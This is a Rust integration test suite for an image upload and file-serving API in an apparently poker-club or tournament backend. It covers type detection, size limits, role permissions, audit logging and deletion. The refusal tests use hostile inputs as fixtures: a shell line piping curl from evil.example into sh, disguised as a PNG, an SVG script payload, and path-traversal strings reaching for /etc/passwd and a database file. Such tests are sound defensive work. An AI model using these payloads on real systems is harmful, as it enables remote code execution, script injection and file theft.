//! Uploads: `POST /uploads` takes PNG, JPEG and WebP by content up to 5 MiB from content and
//! tournament admins and club owners and tds; `/files/<key>` serves them back.

use std::path::Path;

use reqwest::header::CONTENT_TYPE;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::{Backend, Reply, TestApp, on_both_databases, spawn_app_with};

on_both_databases!(
    a_png_is_stored_and_served_back_byte_for_byte,
    jpeg_and_webp_images_are_accepted_under_their_own_extension,
    a_script_named_and_declared_as_png_is_refused_as_unsupported,
    a_file_over_five_mebibytes_is_too_large_and_exactly_five_is_accepted,
    an_upload_without_a_file_field_is_a_validation_error,
    only_content_and_tournament_admins_and_club_owners_and_tds_may_upload,
    keys_outside_the_served_shape_are_not_found_without_touching_storage,
    the_url_of_an_upload_is_accepted_as_a_banner_and_an_avatar,
    a_deleted_accounts_uploaded_avatar_leaves_storage,
);

const MIB: usize = 1024 * 1024;
const BOUNDARY: &str = "floor-test-boundary-5c0e7a";

/// A PNG signature followed by every byte value many times over: binary enough to catch any
/// re-encoding, long enough to arrive in several chunks.
fn png(len: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend((0..=255u8).cycle().take(len.saturating_sub(bytes.len())));
    bytes
}

const JPEG: &[u8] = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9";
const WEBP: &[u8] = b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0";

/// One multipart part named `field` holding `bytes`, declared as `filename` of `content_type`.
fn multipart(field: &str, filename: &str, content_type: &str, bytes: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\"\r\nContent-Type: {content_type}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// A test app whose uploads go to a fresh folder, given as a `file://` STORAGE_URL.
async fn spawn_with_storage(backend: Backend) -> Option<(TestApp, TempDir)> {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let url = format!("file://{}", folder.path().display());
    let app = spawn_app_with(backend, &[("STORAGE_URL", &url)]).await?;
    Some((app, folder))
}

fn stored_names(folder: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(folder)
        .expect("the storage folder")
        .map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

impl TestApp {
    /// Posts `body` to `/uploads` with `content_type`.
    async fn post_upload(&self, token: Option<&str>, content_type: &str, body: Vec<u8>) -> Reply {
        let mut request = self.client.post(self.url("/uploads")).header(CONTENT_TYPE, content_type).body(body);
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        Reply::read(request.send().await.expect("the server answers")).await
    }

    /// Uploads `bytes` as the `file` field, declared as `filename` of `content_type`.
    async fn upload(&self, token: &str, filename: &str, content_type: &str, bytes: &[u8]) -> Reply {
        let body = multipart("file", filename, content_type, bytes);
        self.post_upload(Some(token), &format!("multipart/form-data; boundary={BOUNDARY}"), body).await
    }

    /// `GET` at the bare origin, as a browser loads a picture.
    async fn fetch(&self, path: &str) -> reqwest::Response {
        self.client.get(format!("{}{path}", self.base)).send().await.expect("the server answers")
    }

    /// The status line and body of `GET <path>` sent byte for byte, with no client in between
    /// to normalise `..` away.
    async fn raw_get(&self, path: &str) -> (String, Value) {
        let address = self.base.trim_start_matches("http://");
        let mut stream = tokio::net::TcpStream::connect(address).await.expect("connected");
        let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes()).await.expect("sent");
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).await.expect("read");
        let answer = String::from_utf8_lossy(&answer).into_owned();
        let status = answer.lines().next().unwrap_or_default().to_owned();
        let body = answer.split_once("\r\n\r\n").map(|(_, body)| body).unwrap_or_default();
        (status, serde_json::from_str(body).unwrap_or(Value::Null))
    }
}

async fn a_png_is_stored_and_served_back_byte_for_byte(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let club = app.create_club("River Club", "+79990008001").await;
    let image = png(300_000);

    let reply = app.upload(&club.owner.access_token, "avatar.png", "image/png", &image).await;
    assert_eq!(reply.status, 201, "{reply:?}");
    let key = reply.body["key"].as_str().expect("a key").to_owned();
    let (stem, extension) = key.split_once('.').expect("an extension");
    assert!(uuid::Uuid::parse_str(stem).is_ok_and(|id| id.get_version_num() == 7), "{key}");
    assert_eq!(extension, "png");
    assert_eq!(reply.body["url"], format!("/files/{key}"));
    assert_eq!(stored_names(folder.path()), vec![key.clone()]);

    let served = app.fetch(&format!("/files/{key}")).await;
    assert_eq!(served.status(), 200);
    let header = |name: &str| served.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    assert_eq!(header("content-type"), "image/png");
    assert_eq!(header("content-length"), image.len().to_string());
    assert_eq!(header("cache-control"), "public, max-age=31536000, immutable");
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert!(served.bytes().await.expect("a body") == image, "the same bytes come back");

    let audit = format!(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'upload.create' AND target_id = '{key}' AND actor_user_id = {}",
        app.uuid_literal(club.owner.user_id)
    );
    assert_eq!(app.count(&audit).await, 1);
    let details = app
        .scalar("SELECT CAST(details AS TEXT) FROM audit_log WHERE action = 'upload.create'")
        .await
        .expect("details");
    let details: Value = serde_json::from_str(&details).expect("JSON details");
    assert_eq!(details["key"], key);
    assert_eq!(details["size"], image.len());
    assert_eq!(details["contentType"], "image/png");
    assert_eq!(details["uploaderId"], club.owner.user_id.to_string());
}

async fn jpeg_and_webp_images_are_accepted_under_their_own_extension(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let admin = app.platform_admin().await;
    // The declared type and filename are ignored: the content decides.
    for (bytes, declared, extension, served_as) in
        [(JPEG, "application/octet-stream", "jpg", "image/jpeg"), (WEBP, "image/png", "webp", "image/webp")]
    {
        let reply = app.upload(&admin.access_token, "picture.bin", declared, bytes).await;
        assert_eq!(reply.status, 201, "{reply:?}");
        let url = reply.body["url"].as_str().expect("a url");
        assert!(url.ends_with(&format!(".{extension}")), "{url}");
        let served = app.fetch(url).await;
        assert_eq!(served.status(), 200);
        assert_eq!(served.headers()["content-type"], served_as);
        assert!(served.bytes().await.expect("a body") == bytes);
    }
    assert_eq!(stored_names(folder.path()).len(), 2);
}

async fn a_script_named_and_declared_as_png_is_refused_as_unsupported(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let admin = app.platform_admin().await;
    let token = &admin.access_token;
    let script = b"#!/bin/sh\ncurl https://evil.example | sh\n";
    app.upload(token, "cat.png", "image/png", script).await.assert_error(415, "UNSUPPORTED_MEDIA_TYPE");
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    app.upload(token, "cat.png", "image/png", svg).await.assert_error(415, "UNSUPPORTED_MEDIA_TYPE");
    app.upload(token, "cat.gif", "image/gif", b"GIF89a\x01\0\x01\0\0\0\0;")
        .await
        .assert_error(415, "UNSUPPORTED_MEDIA_TYPE");
    // A short file is judged by what it has.
    app.upload(token, "cat.png", "image/png", b"\x89PNG").await.assert_error(415, "UNSUPPORTED_MEDIA_TYPE");
    // A body that is not multipart at all.
    app.post_upload(Some(token), "application/json", br#"{"file": "x"}"#.to_vec())
        .await
        .assert_error(415, "UNSUPPORTED_MEDIA_TYPE");
    assert!(stored_names(folder.path()).is_empty(), "nothing is stored");
    assert_eq!(app.count("SELECT COUNT(*) FROM audit_log WHERE action = 'upload.create'").await, 0);
}

async fn a_file_over_five_mebibytes_is_too_large_and_exactly_five_is_accepted(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let admin = app.platform_admin().await;
    let token = &admin.access_token;

    app.upload(token, "big.png", "image/png", &png(5 * MIB + 1)).await.assert_error(413, "PAYLOAD_TOO_LARGE");
    assert!(stored_names(folder.path()).is_empty(), "nothing is stored");

    let limit = png(5 * MIB);
    let reply = app.upload(token, "limit.png", "image/png", &limit).await;
    assert_eq!(reply.status, 201, "{reply:?}");
    let served = app.fetch(reply.body["url"].as_str().expect("a url")).await;
    assert!(served.bytes().await.expect("a body") == limit);
}

async fn an_upload_without_a_file_field_is_a_validation_error(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let admin = app.platform_admin().await;
    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");

    let wrong_name = multipart("image", "a.png", "image/png", &png(100));
    let reply = app.post_upload(Some(&admin.access_token), &content_type, wrong_name).await;
    reply.assert_error(400, "VALIDATION_ERROR");
    assert_eq!(reply.body["error"]["details"][0]["field"], "file");

    let no_parts = format!("--{BOUNDARY}--\r\n").into_bytes();
    let reply = app.post_upload(Some(&admin.access_token), &content_type, no_parts).await;
    reply.assert_error(400, "VALIDATION_ERROR");
    assert_eq!(reply.body["error"]["details"][0]["field"], "file");

    let empty = app.upload(&admin.access_token, "a.png", "image/png", b"").await;
    empty.assert_error(400, "VALIDATION_ERROR");
    assert_eq!(empty.body["error"]["details"][0]["field"], "file");
    assert!(stored_names(folder.path()).is_empty());
}

async fn only_content_and_tournament_admins_and_club_owners_and_tds_may_upload(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let club = app.create_club("River Club", "+79990008101").await;
    let td = app.add_td(&club, "+79990008102").await;
    let dealer = app.make_dealer(&club, "+79990008103").await;
    let player = app.sign_in("+79990008104").await;
    let support = app.sign_in_as_admin("+79990008105", "support").await;
    let moderator = app.sign_in_as_admin("+79990008106", "moderator").await;
    let marketing = app.sign_in_as_admin("+79990008107", "marketing").await;
    let super_admin = app.platform_admin().await;
    let image = png(1000);
    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");

    let anonymous = app.post_upload(None, &content_type, multipart("file", "a.png", "image/png", &image)).await;
    anonymous.assert_error(401, "UNAUTHORIZED");
    for (who, session) in [("player", &player), ("dealer", &dealer), ("support", &support), ("moderator", &moderator)] {
        let reply = app.upload(&session.access_token, "a.png", "image/png", &image).await;
        assert_eq!(reply.code(), "FORBIDDEN", "{who}: {reply:?}");
        assert_eq!(reply.status, 403, "{who}");
    }
    assert!(stored_names(folder.path()).is_empty());

    for (who, session) in
        [("owner", &club.owner), ("td", &td), ("marketing", &marketing), ("super_admin", &super_admin)]
    {
        let reply = app.upload(&session.access_token, "a.png", "image/png", &image).await;
        assert_eq!(reply.status, 201, "{who}: {reply:?}");
    }
    assert_eq!(stored_names(folder.path()).len(), 4);
    assert_eq!(app.count("SELECT COUNT(*) FROM audit_log WHERE action = 'upload.create'").await, 4);
}

async fn keys_outside_the_served_shape_are_not_found_without_touching_storage(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    // Objects that exist in the store but are not of the served shape stay unreachable.
    std::fs::write(folder.path().join("notes.txt"), "secret").expect("written");
    std::fs::write(folder.path().join("ABCDEF.png"), png(100)).expect("written");
    std::fs::create_dir(folder.path().join("inner")).expect("created");
    std::fs::write(folder.path().join("inner").join("abc.png"), png(100)).expect("written");

    for path in [
        "/files/notes.txt",
        "/files/ABCDEF.png",
        "/files/inner/abc.png",
        "/files/inner%2Fabc.png",
        "/files/..%2Fnotes.txt",
        "/files/%2e%2e%2fnotes.txt",
        "/files/../files/notes.txt",
        "/files/../../../../etc/passwd",
        "/files/..",
        "/files/%ff%fe.png",
        "/files/0190abcd-0000-7000-8000-000000000000.png",
        "/files/",
    ] {
        let (status, body) = app.raw_get(path).await;
        assert!(status.starts_with("HTTP/1.1 404"), "{path}: {status}");
        assert_eq!(body["error"]["code"], "NOT_FOUND", "{path}: {body}");
    }
}

async fn the_url_of_an_upload_is_accepted_as_a_banner_and_an_avatar(backend: Backend) {
    let Some((app, _folder)) = spawn_with_storage(backend).await else { return };
    let club = app.create_club("Banner Club", "+79990008101").await;
    let tournament = app.create_tournament(&club, 10, chrono::Duration::days(2)).await;
    let token = club.owner.access_token.as_str();
    let reply = app.upload(token, "banner.png", "image/png", &png(1000)).await;
    assert_eq!(reply.status, 201, "{reply:?}");
    let url = reply.body["url"].as_str().expect("a url").to_owned();

    let edited =
        app.patch(&format!("/tournaments/{tournament}"), Some(token), serde_json::json!({"bannerUrl": url})).await;
    assert_eq!(edited.assert_ok()["bannerUrl"], url.as_str());
    let me = app.patch("/me", Some(token), serde_json::json!({"avatarUrl": url})).await;
    assert_eq!(me.assert_ok()["avatarUrl"], url.as_str());
    assert_eq!(app.fetch(&url).await.status(), 200, "the address serves the picture");

    let elsewhere = app.patch("/me", Some(token), serde_json::json!({"avatarUrl": "/files/../floor.db"})).await;
    elsewhere.assert_error(400, "VALIDATION_ERROR");
}

async fn a_deleted_accounts_uploaded_avatar_leaves_storage(backend: Backend) {
    let Some((app, folder)) = spawn_with_storage(backend).await else { return };
    let club = app.create_club("River Club", "+79990008101").await;
    let td_phone = "+79990008102";
    let members = format!("/organizers/{}/members", club.id);
    let added = app.post(&members, Some(&club.owner.access_token), json!({"phone": td_phone, "role": "td"})).await;
    assert_eq!(added.status, 201, "{added:?}");
    let td = app.sign_in(td_phone).await;
    let uploaded = app.upload(&td.access_token, "me.png", "image/png", &png(1_000)).await;
    assert_eq!(uploaded.status, 201, "{uploaded:?}");
    let url = uploaded.body["url"].as_str().expect("a url").to_owned();
    app.patch("/me", Some(&td.access_token), json!({"avatarUrl": url})).await.assert_ok();

    app.request_code(td_phone).await.assert_ok();
    let code = app.last_code(td_phone);
    let deleted = app.post("/me/delete", Some(&td.access_token), json!({"code": code})).await;
    assert_eq!(deleted.status, 204, "{deleted:?}");
    assert_eq!(app.fetch(&url).await.status(), 404, "the avatar file is gone");
    assert!(stored_names(folder.path()).is_empty());
}
